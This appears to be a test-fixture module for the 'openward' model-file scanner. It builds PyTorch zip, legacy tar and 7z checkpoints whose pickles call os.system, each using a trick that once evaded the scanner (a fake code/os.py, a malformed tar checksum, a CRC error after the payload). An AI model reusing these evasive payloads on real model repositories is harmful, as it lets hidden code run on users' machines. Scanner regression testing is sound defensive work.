"""PyTorch checkpoints that openward used to read differently from ``torch.load``.

A zip checkpoint that borrowed TorchScript's trust:

Inside a TorchScript archive openward does not report the ``__torch__.*``
classes that the archive's ``code/`` defines: TorchScript's own unpickler
resolves them to that code, which is analysed on its own. Names were taken
from the path of each ``code/`` file, so ``code/os.py`` defining ``class
system`` vouched for ``os.system``; an archive without ``constants.pkl`` is no
TorchScript archive to ``torch.load``, which unpickled its ``data.pkl`` with
Python's unpickler and called the real ``os.system``, while the scan was
clean (found by the second-engineer attack on the pickle analysis, branch
``atk-pickle``).

A legacy tar checkpoint whose headers are version-7 (no ``ustar`` magic)
with the checksum written ``NNNNNN\\0X``: ``tarfile`` reads the checksum up to
the NUL and opens it, so ``torch.load`` unpickles the ``storages`` member;
openward's own header test refused it and called the file unknown data.

A 7z archive (ReversingLabs' nullifAI shipped models that way) whose second
member fails its CRC check: py7zr and 7-Zip extract the first member and then
report the error; openward reported the error and analysed no member.
"""

from __future__ import annotations

import io
import os
import pickle
import struct
import tarfile
import zipfile
from collections.abc import Callable

__all__ = ["malicious"]


def code_named_like_a_module(command: str) -> bytes:
    cmd = command.encode()
    data_pkl = b"\x80\x02cos\nsystem\n(X" + struct.pack("<I", len(cmd)) + cmd + b"tR."
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_STORED) as z:
        z.writestr("archive/data.pkl", data_pkl)
        z.writestr("archive/byteorder", b"little")
        z.writestr("archive/version", b"3\n")
        z.writestr("archive/code/os.py", "class system(Module):\n  __parameters__ = []\n")
        z.writestr("archive/.data/serialization_id", b"0123456789")
    return buf.getvalue()


def v7_tar_with_junk_after_checksum(command: str) -> bytes:
    cmd = command.encode()
    storages = b"\x80\x02cos\nsystem\n(X" + struct.pack("<I", len(cmd)) + cmd + b"tR0K\x00."
    sys_info = {"protocol_version": 1001, "little_endian": True, "type_sizes": {"int": 4}}
    members = {
        "sys_info": pickle.dumps(sys_info, protocol=2),
        "storages": storages,
        "tensors": pickle.dumps(0, protocol=2),
        "pickle": pickle.dumps({}, protocol=2),
    }
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=tarfile.USTAR_FORMAT) as tar:
        for name, content in members.items():
            info = tarfile.TarInfo(name)
            info.size = len(content)
            tar.addfile(info, io.BytesIO(content))
    data = bytearray(buf.getvalue())
    pos = 0
    while pos + 512 <= len(data) and any(data[pos : pos + 512]):
        header = data[pos : pos + 512]
        size = int(header[124:136].rstrip(b"\0 ") or b"0", 8)
        header[257:265] = bytes(8)  # no magic: a version-7 header
        header[148:156] = b" " * 8
        header[148:156] = b"%06o\0X" % sum(header)
        data[pos : pos + 512] = header
        pos += 512 + (size + 511) // 512 * 512
    return bytes(data)


def sevenzip_with_bad_crc_after_payload(command: str) -> bytes:
    import py7zr

    cmd = command.encode()
    model = b"\x80\x02cos\nsystem\n(X" + struct.pack("<I", len(cmd)) + cmd + b"tR."
    buf = io.BytesIO()
    with py7zr.SevenZipFile(buf, "w", filters=[{"id": py7zr.FILTER_COPY}]) as archive:
        archive.writestr(model, "model.pt")
        archive.writestr(os.urandom(4000), "zz_other.bin")
    data = bytearray(buf.getvalue())
    data[32 + len(model) + 100] ^= 0xFF  # inside zz_other.bin (stored, so raw)
    return bytes(data)


def malicious(add: Callable[..., None], touch: Callable[[str], str]) -> None:
    tag = "torch-zip-code-named-os"
    add(
        "torch_archives/code_named_os.pt",
        code_named_like_a_module(touch(tag)),
        tag,
        "torch zip without constants.pkl whose code/os.py defines class system; "
        "data.pkl calls os.system",
        "pickle-dangerous-global",
        loader="torch",
        marker=tag,
    )
    tag = "torch-legacy-tar-v7-checksum"
    add(
        "torch_archives/v7_tar.pt",
        v7_tar_with_junk_after_checksum(touch(tag)),
        tag,
        "legacy torch tar with version-7 headers whose checksum field is 'NNNNNN\\0X'; "
        "os.system in the storages member",
        "pickle-dangerous-global",
        loader="torch",
        marker=tag,
    )
    tag = "sevenzip-crc-error-after-payload"
    add(
        "torch_archives/crc_after_payload.7z",
        sevenzip_with_bad_crc_after_payload(touch(tag)),
        tag,
        "7z archive: model.pt (os.system), then a member whose CRC check fails",
        "pickle-dangerous-global",
        loader="7z-pickle",
        marker=tag,
    )
